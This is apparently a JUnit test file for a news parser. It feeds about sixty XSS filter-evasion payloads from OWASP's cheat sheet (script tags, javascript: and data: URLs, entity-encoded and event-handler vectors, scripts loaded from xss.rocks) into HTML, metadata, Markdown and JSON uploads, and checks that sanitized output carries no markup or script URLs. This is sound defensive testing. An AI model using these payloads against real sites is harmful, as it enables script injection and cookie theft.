package dev.newsdesk.parse;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.newsdesk.article.Article;
import dev.newsdesk.article.ArticleContent;
import dev.newsdesk.article.ArticleJson;
import dev.newsdesk.article.ArticleMarkdown;
import dev.newsdesk.article.Source;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The filter-evasion vectors of OWASP's XSS cheat sheet (written out here by kind), placed wherever a file can put
 * them: the article's text, its links and pictures, the head's metadata, JSON-LD, Markdown and JSON uploads. The
 * article's {@code html} stays inside the allow-list and no other field carries markup or a script URL.
 */
class XssVectorsTest {

    static final List<String> VECTORS = List.of(
            "<script>alert('XSS')</script>",
            "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
            "<IMG SRC=# onmouseover=\"alert('xxs')\">",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "<SCRIPT/XSS SRC=\"https://xss.rocks/xss.js\"></SCRIPT>",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<SCRIPT SRC=https://xss.rocks/xss.js?< B >",
            "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
            "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
            "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
            "<IMG DYNSRC=\"javascript:alert('XSS')\">",
            "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
            "<svg/onload=alert('XSS')>",
            "<BR SIZE=\"&{alert('XSS')}\">",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<STYLE>@import'https://xss.rocks/xss.css';</STYLE>",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
            "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
            "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
            "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
            "<DIV STYLE=\"width: expression(alert('XSS'));\">",
            "<BASE HREF=\"javascript:alert('XSS');//\">",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.rocks/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<a href=\"  JaVaScRiPt:alert(1)\">click</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
            "<a href=\"&#14;javascript:alert(1)\">click</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
            "<a href=\"vbscript:msgbox(1)\">click</a>",
            "<form><button formaction=javascript:alert(1)>click</button></form>",
            "<video><source onerror=\"alert(1)\"></video>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<xss onafterscriptexecute=alert(1)><script>1</script>",
            "<details open ontoggle=alert(1)>",
            "<img src=\"https://cdn.example/a.jpg\" alt=\"x\" onload=\"alert(1)\">",
            "<img src=\"https://cdn.example/a.jpg\" alt=\"&quot; onerror=&quot;alert(1)\">",
            "\"><script>alert(1)</script>",
            "'';!--\"<XSS>=&{()}");

    private static final String PROSE = "The council met on Tuesday evening to vote on the budget for the coming"
            + " year, and the debate went on until well past midnight, as members argued over every line.";

    static Stream<Arguments> uploads() {
        return VECTORS.stream().flatMap(v -> {
            String quoted = v.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\n", "\\n");
            return Stream.of(
                    Arguments.of("in the body", "a.html", "<html><head><title>Council votes</title></head><body>"
                            + "<article><p>" + PROSE + " " + v + " more text.</p><p>" + PROSE + "</p>"
                            + "<figure>" + v + "<figcaption>" + v + "</figcaption></figure><p>" + PROSE + " <a href=\""
                            + quoted + "\">link</a></p></article></body></html>"),
                    Arguments.of("in the metadata", "a.html", "<html><head><title>" + v + "</title>"
                            + "<link rel=canonical href='" + v + "'><meta property=og:image content='" + v + "'>"
                            + "<meta name=author content='" + v + "'><meta property=article:section content='" + v
                            + "'><script type=application/ld+json>{\"@type\":\"NewsArticle\",\"headline\":\""
                            + quoted + "\",\"image\":\"" + quoted + "\",\"url\":\"" + quoted + "\"}</script>"
                            + "</head><body><p>" + PROSE + "</p><p>" + PROSE + "</p></body></html>"),
                    Arguments.of("in Markdown", "a.md", "---\ntitle: \"" + quoted + "\"\nimage: \"" + quoted
                            + "\"\n---\n\n" + PROSE + " " + v + " [x](" + v + ") ![y](" + v + ")\n"),
                    Arguments.of("in JSON", "a.json", "{\"title\":\"" + quoted + "\",\"canonicalUrl\":\"" + quoted
                            + "\",\"image\":{\"url\":\"" + quoted + "\",\"alt\":\"" + quoted + "\"},\"html\":\"<p>"
                            + PROSE + " " + quoted + "</p>\"}"));
        });
    }

    @ParameterizedTest(name = "{0}: {2}")
    @MethodSource("uploads")
    void noFieldCarriesAnythingExecutable(String where, String name, String file) throws Exception {
        ArticleContent content = new ArticleParser().parse(file.getBytes(StandardCharsets.UTF_8), name);
        Article article = new Article("a", content, new Source("b", name, content.format(), "e", null), 0, "t", "t");
        assertTrue(RenderedHtml.isSafe(content.html()), content.html());
        assertNoScriptUrl(Jsoup.parseBodyFragment(content.html()).select("[href], [src]").eachAttr("abs:href"));
        assertNoScriptUrl(Jsoup.parseBodyFragment(content.html()).select("[src]").eachAttr("src"));
        JsonNode json = ArticleJson.mapper().valueToTree(article);
        // Code is shown as written: a tag inside a code span is text, as the html's <code> shows it.
        List<String> code = Jsoup.parseBodyFragment(content.html()).select("code").eachText();
        assertPlain(json, "", code);
        String markdown = ArticleMarkdown.of(article);
        assertFalse(markdown.toLowerCase(Locale.ROOT).matches("(?s).*\\]\\(\\s*<?(javascript|data|vbscript):.*"),
                markdown);
        assertTrue(RenderedHtml.isSafe(RenderedHtml.fromMarkdown(markdown)), markdown);
    }

    private static void assertNoScriptUrl(List<String> urls) {
        for (String u : urls) {
            String lower = u.toLowerCase(Locale.ROOT);
            assertTrue(lower.startsWith("http://") || lower.startsWith("https://") || lower.startsWith("mailto:")
                    || lower.isEmpty(), u);
        }
    }

    /** Every text field is text: no tag (but in code) and no script URL, anywhere but in {@code html}. */
    private static void assertPlain(JsonNode node, String path, List<String> code) {
        RenderedHtml.eachTextField(node, path, (field, value) -> {
            String t = value;
            for (String c : code) t = c.contains(t) ? "" : t.replace(c, "");
            assertFalse(t.matches("(?s).*<[a-zA-Z/!].*"), field + " holds markup: " + t);
            if (field.endsWith("url") || field.endsWith("Url")) {
                String lower = t.toLowerCase(Locale.ROOT);
                assertTrue(lower.startsWith("http://") || lower.startsWith("https://"), field + ": " + t);
            }
        });
    }
}
